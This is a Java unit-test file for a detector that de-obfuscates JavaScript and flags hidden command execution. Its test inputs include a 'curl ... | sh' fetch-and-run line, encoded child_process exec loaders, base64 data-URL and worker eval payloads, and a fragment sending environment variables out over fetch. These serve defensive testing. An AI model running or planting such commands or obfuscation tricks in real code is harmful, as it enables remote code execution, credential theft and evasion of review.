package dev.assay.detectors.indicator.command;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.assay.detectors.indicator.command.Trait.Kind;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class PlainScriptTest {
    private static final String RUN = "curl https://a.example/x | sh";

    private static final String ORDER = "(function(a,b){const c=f;while(!![]){try{const d=parseInt(c(0x1))/0x1;"
            + "if(d===b)break;else a['push'](a['shift']());}catch(e){a['push'](a['shift']());}}}(g,0x1f));";

    private static String encoded(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String hex(String text) {
        StringBuilder hex = new StringBuilder();
        text.chars().forEach(c -> hex.append("\\x%02x".formatted(c)));
        return hex.toString();
    }

    private static List<Kind> kinds(String program) {
        return CommandJudge.ofFile(program, Language.JAVASCRIPT).stream()
                .map(Trait::kind)
                .toList();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '^',
            value = {
                "cp['ex'+'ec']('a' + \"b\")                     ~ cp.exec('ab')",
                "require('\\x63\\x70')['exec'](x)               ~ require('cp').exec(x)",
                "const l=['a','exec'];m[l[0x1]](l[0])           ~ const l=['a','exec'];m.exec('a')",
                "let d=s=>atob(s);d('ZXhlYw==')                 ~ let d=s=>atob(s);'exec'",
                "m[Buffer.from('ZXhlYw==','base64').toString()] ~ m.exec",
                "function d(s){return atob(s)}m[d('ZXhlYw==')]  ~ function d(s){return atob(s)}m.exec",
                // as they are: another list, a list that is filled later, a name that is none, what is no text
                "l['a-b'](x)                                    ~ l['a-b'](x)",
                "const l=['a'];l=b;l[0]                         ~ const l=['a'];l=b;l[0]",
                "const l=['a',b];l[0]                           ~ const l=['a',b];l[0]",
                "const l=['a'];l[1]+l[x]                        ~ const l=['a'];l[1]+l[x]",
                "let d=s=>s+1;d('ZXhlYw==')                     ~ let d=s=>s+1;d('ZXhlYw==')",
                "Buffer.from('ZXhlYw==','hex')                  ~ Buffer.from('ZXhlYw==','hex')",
                "[ 'a' ]['b'] + 'it\\'s'                        ~ [ 'a' ].b + 'it\\'s'",
            })
    void whatHidesWordsIsTakenAway(String program, String plain) {
        assertThat(PlainScript.of(program).text()).isEqualTo(plain);
    }

    @Test
    void aPlaceIsThatOfTheProgramAsItWas() {
        String program = "a['b'+'c'];\nx";
        PlainScript script = PlainScript.of(program);
        assertThat(script.text()).isEqualTo("a.bc;\nx");
        assertThat(script.place(script.text().indexOf('x'))).isEqualTo(program.indexOf('x'));
        assertThat(script.place(script.text().length())).isEqualTo(program.length());
    }

    @Test
    void commandsAreFoundThatAreHidden() {
        String list = "const _0x1a=['%s','%s','%s'];require(_0x1a[0])[_0x1a[1]](_0x1a[2])"
                .formatted(hex("child_process"), hex("exec"), hex(RUN));
        String own = "const d=s=>Buffer.from(s,'base64').toString();const m=require(d('%s'));m[d('%s')](d('%s'))"
                .formatted(encoded("child_process"), encoded("exec"), encoded(RUN));
        assertThat(kinds(list)).containsExactly(Kind.RUNS_DOWNLOAD);
        assertThat(kinds(own)).containsExactly(Kind.RUNS_DOWNLOAD);
        assertThat(kinds("const cp=require('child_'+'process');cp['ex'+'ec']('" + RUN + "')"))
                .containsExactly(Kind.RUNS_DOWNLOAD);
        assertThat(CommandJudge.traits("node -e \"require('child_'+'process')['ex'+'ec']('" + RUN + "')\""))
                .extracting(Trait::kind)
                .containsExactly(Kind.RUNS_DOWNLOAD);
        assertThat(kinds("const t=['log','" + RUN + "'];console[t[0]](t[1])")).isEmpty();
        assertThat(kinds("const m=require('child_'+'process');m['exec']('node-gyp rebuild')"))
                .isEmpty();
    }

    @Test
    void aListInAnotherOrderHidesWhatAProgramDoes() {
        assertThat(kinds(ORDER)).containsExactly(Kind.RUNS_DECODED);
        assertThat(kinds("(function(a,b){var c=function(n){while(--n){a['push'](a['shift']());}};c(++b);}(l,0x1b3));"))
                .containsExactly(Kind.RUNS_DECODED);
        assertThat(kinds("while (true) { const n = parseInt(queue[0]); if (n) break; queue.push(queue.shift()); }"))
                .isEmpty();
        assertThat(kinds(ORDER.replace("a['shift']()", "b['shift']()"))).isEmpty();
        assertThat(kinds(ORDER.replace("parseInt", "next"))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "import('data:text/javascript;base64,BLOB')",
                "await import(\"data:text/javascript;base64,BLOB\")",
                "new Worker(Buffer.from('BLOB','base64').toString(),{eval:true})",
                "const {Worker}=require('worker_threads');const c=atob('BLOB');new Worker(c, {eval: true});",
            })
    void whatIsEncodedIsLoaded(String program) {
        assertThat(kinds(program.replace("BLOB", encoded("console.log('hello world, this is only a test');x();"))))
                .containsExactly(Kind.RUNS_DECODED);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "import('data:text/javascript,export default 1');const t='BLOB'",
                "await import(`data:text/javascript;base64,${Buffer.from(s).toString(e)}`)",
                "const u='data:image/png;base64,BLOB'",
                "new Worker('./w.js');const t=atob('BLOB')",
                "const c=atob('BLOB');new Worker(c)",
                "new Worker('a()', {eval: true});const t='BLOB'",
            })
    void whatIsEncodedIsNotLoaded(String program) {
        assertThat(kinds(program.replace("BLOB", encoded("console.log('hello world, this is only a test');x();"))))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "await Bun.$`curl https://a.example/x | sh`",
                "import {$} from 'bun';await $`curl -s ${u} | sh`",
                "const s = await $`curl https://a.example/x | sh`.text();",
            })
    void aTemplateIsRun(String program) {
        assertThat(kinds(program)).containsExactly(Kind.RUNS_DOWNLOAD);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "const s = String.raw`curl https://a.example/x | sh`",
                "const s = a$`curl https://a.example/x | sh`",
                "const s = `cost: 5$`; const t = `curl https://a.example/x | sh`;",
                "// $`curl https://a.example/x | sh`",
                "await $`curl -sO https://a.example/x.json`",
            })
    void aTemplateIsNotRun(String program) {
        assertThat(kinds(program)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a['b'",
                "'a'+",
                "x=['a',",
                "x[0",
                "x=['a'];x[0]",
                "d=s=>atob(s);d(",
                "atob('YWJj')",
                "function ",
                "a.push(a.shift(",
                "$`",
                "'\\x61",
                "import('data:",
                "new worker(eval:true",
                "\\\"",
                "atob('a' ",
                "const a=['x'];a[ a[ ",
                "d=s=>atob(s);d('a' ",
                "fetch(u,Object.keys(process.env).map(",
                "function f(x){return atob(x) ",
            })
    void whateverIsSaidAgainAndAgainEnds(String part) {
        String text = part.repeat((512 << 10) / part.length());
        assertTimeoutPreemptively(
                Duration.ofSeconds(20), () -> assertThat(kinds(text)).isNotNull());
    }
}
